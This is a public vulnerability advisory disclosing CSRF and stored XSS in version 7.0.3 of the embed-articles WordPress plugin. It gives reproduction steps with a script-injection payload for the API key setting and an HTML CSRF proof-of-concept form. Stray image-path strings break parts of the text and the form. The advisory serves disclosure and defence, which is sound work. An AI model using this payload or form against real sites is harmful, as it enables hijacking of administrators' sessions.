CSRF/XSS in embed-articles Wordpress Plugin May 07 2015 06:59PM
kingkaustubh me com
CSRF/Stored XSS Vulnerability in embed articles Plugin

. contents:: Table Of Content


* Title :CSRF and Stored XSS Vulnerability in embed-articles Wordpress Plugin
* Author: Kaustubh G. Padwad
* Plugin Homepage: https://wordpress.org/plugins/embed-articles/
* Severity: HIGH
* Version Affected: Version 7.0.3 and mostly prior to it
* Version Tested : Version 7.0.3
* version patched:


Vulnerable Parameter

* API Key

About Vulnerability
This plugin is vulnerable to a combination of CSRF/XSS attack meaning that if an admin user can be tricked to visit a crafted URL created by attacker (via spear phishing/social engineering), the attacker can insert arbitrary script into admin page. Once exploited, adminâ??s browser can be made to do almostanything the admin user could typically do by hijacking admin's cookies etc.

Vulnerability Class
Cross Site Request Forgery (https://www.owasp.org/index.php/Cross-Site_Request_Forgery_%28CSRF%29)
Cross Site Scripting (https://www.owasp.org/index.php/Top_10_2013-A3-Cross-Site_Scripting_(XS

Steps to Reproduce: (POC)

After installing the plugin

1. Goto settings -> Embed Articles

2. Insert this payload ## "> http://www.<script>alert(1)</script .com ## Into above mention Vulnerable parameter Save settings and see XSS in action

3. Visit embed-articles settings page of this plugin anytime later and you can see the script executing as it is stored.

Plugin does not uses any nonces and hence, the same settings can be changed using CSRF attack and the PoC code for the same is below<form action="
o" method="POST">
<inputtype="hidden" name="embedarticles_hidden" value="Y" />
<input type="hidden" name="pub_value" value=""> "> http://www.<script>alert(1)</script .com" />
<input type="hidden" name="display" value="bottom" />
<input type="hidden" name="Submit" value="Update Options" />
<input type="submit" value="Submit request" />

Plugin Closed

Change Log
Plugin Closed

07-April-2015 Reported to Developer
Plugin Closed
8-May-2015 Public Disclosed
* Kaustubh Padwad
* Information Security Researcher
* kingkaustubh (at) me (dot) com [email concealed]* https://twitter.com/s3curityb3ast
* http://breakthesec.com
* https://www.linkedin.com/in/kaustubhpadwad

[reply ]


Privacy StatementCopyright 2010, SecurityFocus